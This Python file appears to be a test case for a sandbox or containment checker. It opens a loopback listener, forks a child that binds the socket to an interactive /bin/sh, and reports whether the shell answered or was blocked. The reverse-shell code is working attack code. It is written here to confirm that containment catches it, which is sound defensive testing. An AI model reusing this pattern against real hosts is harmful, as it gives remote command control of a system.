# category: shell
# expect: caught
# goal: a reverse shell over loopback: a listener in the cell, a child that
#  connects to it and hands the socket to a shell, commands sent back
import os
import socket
import hostile as h

h.bound(5)
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
port = srv.getsockname()[1]
pid = os.fork()
if pid == 0:
    c = socket.create_connection(("127.0.0.1", port))
    for fd in (0, 1, 2):
        os.dup2(c.fileno(), fd)
    try:
        os.execv("/bin/sh", ["sh", "-i"])
    finally:
        os._exit(127)
conn, _ = srv.accept()
conn.settimeout(3)
conn.sendall((h.SHELL_CMD + "\nexit\n").encode())
data = b""
try:
    while True:
        chunk = conn.recv(4096)
        if not chunk:
            break
        data += chunk
except OSError:
    pass
_, status = os.waitpid(pid, 0)
if h.TOKEN.encode() in data:
    h.achieved("the reverse shell answered %r" % data[:60])
h.blocked("other", "the reverse shell never answered (status %d)" % status)
